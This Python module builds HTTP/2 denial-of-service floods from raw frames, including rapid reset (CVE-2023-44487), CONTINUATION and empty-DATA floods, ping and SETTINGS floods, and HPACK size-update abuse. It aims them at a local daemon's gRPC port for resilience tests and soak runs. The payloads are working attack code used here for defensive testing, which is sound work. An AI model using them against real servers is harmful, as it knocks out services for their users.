"""Hostile HTTP/2 clients for edged's gRPC endpoint, from hand-made frames: the floods and tricks of SECURITY.md's
classes 18-23, each as a function that runs it against a port and says how the daemon ended it. The tests
(tests/e2e/test_grpc_http2_attacks.py) assert each outcome; scripts/soak.py --attack runs them beside normal traffic
to show that memory stays flat.

Only loopback is ever a target: every function takes a port on 127.0.0.1.
"""

from __future__ import annotations

import contextlib
import socket
import struct
from collections.abc import Callable, Iterable
from typing import Final

import hpack

from edged.frontends.grpc.frames import header_block

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
PROTOCOL_ERROR, CANCEL, COMPRESSION_ERROR, ENHANCE_YOUR_CALM = 0x1, 0x8, 0x9, 0xB
LIVE: Final = "/inference.GRPCInferenceService/ServerLive"
INFER: Final = "/inference.GRPCInferenceService/ModelInfer"
HOST: Final = "127.0.0.1"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def message(body: bytes = b"") -> bytes:
    """A gRPC length-prefixed message."""
    return b"\0" + len(body).to_bytes(4, "big") + body


def request_fields(path: str = LIVE, *extra: tuple[bytes, bytes], method: bytes = b"POST") -> list[tuple[bytes, bytes]]:
    return [
        (b":method", method),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", HOST.encode()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *extra,
    ]


def block(fields: Iterable[tuple[bytes, bytes]], encoder: hpack.Encoder | None = None) -> bytes:
    """A header block as written, with no check of what it says: literals without indexing and no Huffman (edged's
    own encoder, which keeps no table state) when no ``encoder`` is given."""
    if encoder is not None:
        return bytes(encoder.encode(list(fields), huffman=False))
    return header_block(list(fields))


def connect(port: int, *, receive_buffer: int | None = None, timeout: float = 30.0) -> socket.socket:
    """A connection past the preface and an empty SETTINGS; ``receive_buffer``: a small SO_RCVBUF, for a client that
    reads nothing."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if receive_buffer is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.settimeout(timeout)
    sock.connect((HOST, port))
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


def frames_of(data: bytes) -> list[tuple[int, int, int, bytes]]:
    """The whole frames in ``data``: (type, flags, stream, payload)."""
    found = []
    position = 0
    while position + 9 <= len(data):
        size = int.from_bytes(data[position : position + 3], "big")
        if position + 9 + size > len(data):
            break
        kind, flags = data[position + 3], data[position + 4]
        stream = int.from_bytes(data[position + 5 : position + 9], "big") & 0x7FFFFFFF
        found.append((kind, flags, stream, data[position + 9 : position + 9 + size]))
        position += 9 + size
    return found


def read_until_closed(sock: socket.socket, timeout: float = 30.0) -> bytes:
    """Everything the daemon sends until it closes the connection (a reset counts as closing)."""
    sock.settimeout(timeout)
    received = bytearray()
    while True:
        try:
            data = sock.recv(1 << 16)
        except (ConnectionResetError, TimeoutError):
            break
        if not data:
            break
        received += data
    return bytes(received)


def goaway_code(data: bytes) -> int | None:
    for kind, _, _, payload in frames_of(data):
        if kind == GOAWAY:
            return int(struct.unpack(">LL", payload[:8])[1])
    return None


def send_all(sock: socket.socket, data: bytes) -> bool:
    """Sends ``data``; False when the daemon closed the connection first."""
    try:
        sock.sendall(data)
    except OSError:
        return False
    return True


# --- the floods -------------------------------------------------------------------------------------------------


def size_update_headers(stream: int = 1, size: int = 1 << 20) -> bytes:
    """A HEADERS frame of ``size`` bytes, all HPACK dynamic table size updates (0x20) but a request at the end."""
    fields = block(request_fields())
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x20" * (size - len(fields)) + fields)


def settings_entries(count: int) -> bytes:
    """One SETTINGS frame of ``count`` INITIAL_WINDOW_SIZE entries, alternating 0 and 65535."""
    entries = b"".join(struct.pack(">HL", 0x4, 65535 * (i & 1)) for i in range(count))
    return frame(SETTINGS, 0, 0, entries)


def pings(count: int) -> bytes:
    return frame(PING, 0, 0, b"edged-01") * count


def empty_settings(count: int) -> bytes:
    return frame(SETTINGS, 0, 0) * count


def rapid_resets(count: int) -> bytes:
    """``count`` calls opened and reset at once (CVE-2023-44487), each a whole request before its RST_STREAM."""
    encoder = hpack.Encoder()
    out = []
    for i in range(count):
        stream = 1 + 2 * i
        out.append(frame(HEADERS, END_HEADERS, stream, block(request_fields(), encoder)))
        out.append(frame(DATA, 0, stream, message()))
        out.append(frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")))
    return b"".join(out)


def empty_continuations(count: int) -> bytes:
    """A HEADERS frame that does not end its block, then ``count`` empty CONTINUATION frames (CVE-2024-27316)."""
    return frame(HEADERS, 0, 1, block(request_fields())) + frame(CONTINUATION, 0, 1) * count


def empty_data(count: int) -> bytes:
    """A call whose body is ``count`` empty DATA frames (CVE-2019-9518)."""
    return frame(HEADERS, END_HEADERS, 1, block(request_fields())) + frame(DATA, 0, 1) * count


def flood(port: int, payload: bytes, *, receive_buffer: int | None = None) -> int | None:
    """Sends ``payload`` on a new connection, then reads what comes back: the GOAWAY code the daemon ended it with
    (None when it did not end it). With ``receive_buffer``, nothing is read before the whole payload is sent."""
    with contextlib.closing(connect(port, receive_buffer=receive_buffer)) as sock:
        send_all(sock, payload)
        return goaway_code(read_until_closed(sock))


# The mix scripts/soak.py --attack runs, by name: each returns the GOAWAY code the daemon answered with.
ATTACKS: Final[dict[str, Callable[[int], int | None]]] = {
    "header block of size updates": lambda port: flood(port, size_update_headers()[:4096]),
    "settings of many entries": lambda port: flood(port, settings_entries(174_000)),
    "settings flood": lambda port: flood(port, empty_settings(5_000)),
    # Large enough to outlast the socket buffers on both sides (a few MB on loopback): a client that reads late is
    # only slow.
    "ping flood, not reading": lambda port: flood(port, pings(1_500_000), receive_buffer=4096),
    "rapid reset": lambda port: flood(port, rapid_resets(2_000)),
    "empty continuations": lambda port: flood(port, empty_continuations(20_000)),
    "empty data": lambda port: flood(port, empty_data(20_000)),
}
